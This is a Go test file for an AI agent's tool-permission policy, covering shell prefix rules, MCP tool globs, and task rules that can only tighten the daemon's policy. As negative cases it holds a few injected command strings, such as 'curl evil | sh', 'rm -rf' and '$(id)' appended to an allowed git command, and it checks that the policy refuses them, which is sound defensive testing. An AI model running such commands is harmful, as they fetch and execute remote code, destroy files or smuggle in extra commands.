package agents

import (
	"encoding/json"
	"testing"
)

func TestPolicyDecide(t *testing.T) {
	t.Parallel()
	p, err := DefaultPolicy().With(map[string]string{
		"shell:git status": "allow",
		"shell:git":        "ask",
		"shell:rm":         "deny",
		"web_fetch":        "deny",
		"*":                "deny",
	})
	if err != nil {
		t.Fatal(err)
	}
	shell := func(cmd string) json.RawMessage {
		b, _ := json.Marshal(map[string]string{"command": cmd})
		return b
	}
	cases := []struct {
		tool string
		args json.RawMessage
		want Decision
	}{
		{"read_file", nil, Allow},
		{"web_fetch", nil, Deny},
		{"mcp_something", nil, Deny},
		{"shell", shell("git status --short"), Allow},
		{"shell", shell("git push"), Ask},
		{"shell", shell("rm -rf build"), Deny},
		{"shell", shell("ls"), Ask},
	}
	for _, c := range cases {
		if got, reason := p.Decide(c.tool, c.args); got != c.want {
			t.Errorf("%s %s: %s (%s), want %s", c.tool, c.args, got, reason, c.want)
		}
	}
	// An allow rule never covers a compound command, and prefixes match
	// whole words.
	for _, cmd := range []string{"git status; curl evil | sh", "git status && rm -rf x", "git statusx", "git status $(id)"} {
		if got, _ := p.Decide("shell", shell(cmd)); got == Allow {
			t.Errorf("%q allowed", cmd)
		}
	}
	// Tasks may only tighten.
	tight, ignored, err := DefaultPolicy().Tighten(map[string]string{"shell": "allow", "read_file": "deny", "*": "allow"})
	if err != nil {
		t.Fatal(err)
	}
	if d, _ := tight.Decide("shell", shell("ls")); d != Ask {
		t.Errorf("task loosened shell to %s", d)
	}
	if d, _ := tight.Decide("read_file", nil); d != Deny {
		t.Errorf("task could not tighten read_file: %s", d)
	}
	if len(ignored) != 2 {
		t.Errorf("ignored: %v", ignored)
	}
	if _, err := DefaultPolicy().With(map[string]string{"shell": "maybe"}); err == nil {
		t.Error("bad decision accepted")
	}
}

func TestToolCallChunksAreNotWords(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		chunk string
		tool  bool
	}{
		{`[{"id":"call_1","type":"function","function":{"name":"read_file","arguments":""}}]`, true},
		{`[{"function":{"arguments":"{\"pa"}}]`, true},
		{`{"name":"read_file","arguments":"{}"}`, true},
		{`Hello`, false},
		{`[1, 2, 3]`, false},
		{`{"answer": 42}`, false},
		{`[{"item": "a list the model wrote"}]`, false},
	} {
		if got := isToolCallChunk([]byte(c.chunk)); got != c.tool {
			t.Errorf("%s: %v, want %v", c.chunk, got, c.tool)
		}
	}
}

func TestPolicyGlobs(t *testing.T) {
	t.Parallel()
	p, err := DefaultPolicy().With(map[string]string{
		"mcp_*":              "deny",
		"mcp_github_*":       "allow",
		"mcp_github_delete*": "ask",
		"mcp_github_get_me":  "deny",
	})
	if err != nil {
		t.Fatal(err)
	}
	for tool, want := range map[string]Decision{
		"mcp_files_read":           Deny,  // mcp_*
		"mcp_github_get_issue":     Allow, // the longer glob wins
		"mcp_github_delete_repo":   Ask,   // longer still
		"mcp_github_get_me":        Deny,  // a name's own rule wins over globs
		"read_file":                Allow, // globs touch nothing else
		"unknown_tool_of_the_week": Ask,
	} {
		if got, why := p.Decide(tool, nil); got != want {
			t.Errorf("%s: %s (%s), want %s", tool, got, why, want)
		}
	}
	if d, _ := DefaultPolicy().Decide("mcp_any_tool", nil); d != Ask {
		t.Errorf("default policy for an MCP tool: %s, want ask", d)
	}

	// A task's globs only tighten: a longer glob of the task cannot undo
	// the daemon's deny, and its allow changes nothing.
	tight, ignored, err := p.Tighten(map[string]string{
		"mcp_github_*":     "deny",
		"mcp_files_re*":    "ask",
		"mcp_*":            "allow",
		"mcp_github_get_*": "allow",
	})
	if err != nil {
		t.Fatal(err)
	}
	for tool, want := range map[string]Decision{
		"mcp_github_get_issue": Deny,
		"mcp_files_read":       Deny,
		"read_file":            Allow,
	} {
		if got, why := tight.Decide(tool, nil); got != want {
			t.Errorf("tightened %s: %s (%s), want %s", tool, got, why, want)
		}
	}
	if len(ignored) != 2 {
		t.Errorf("ignored = %v, want the two allow globs", ignored)
	}
	// And a task cannot loosen with a glob the daemon's globs do not cover
	// literally.
	loose, _, err := p.Tighten(map[string]string{"mcp_githu?_*": "ask"})
	if err != nil {
		t.Fatal(err)
	}
	if d, _ := loose.Decide("mcp_github_get_me", nil); d != Deny {
		t.Errorf("a task's glob loosened mcp_github_get_me to %s", d)
	}
	if d, _ := loose.Decide("mcp_github_get_issue", nil); d != Ask {
		t.Errorf("a task's ask glob did not tighten mcp_github_get_issue: %s", d)
	}
	if _, err := DefaultPolicy().With(map[string]string{"mcp_[x": "ask"}); err == nil {
		t.Error("a broken glob was accepted")
	}
	if _, _, err := DefaultPolicy().Tighten(map[string]string{"mcp_[x": "ask"}); err == nil {
		t.Error("a task's broken glob was accepted")
	}
}
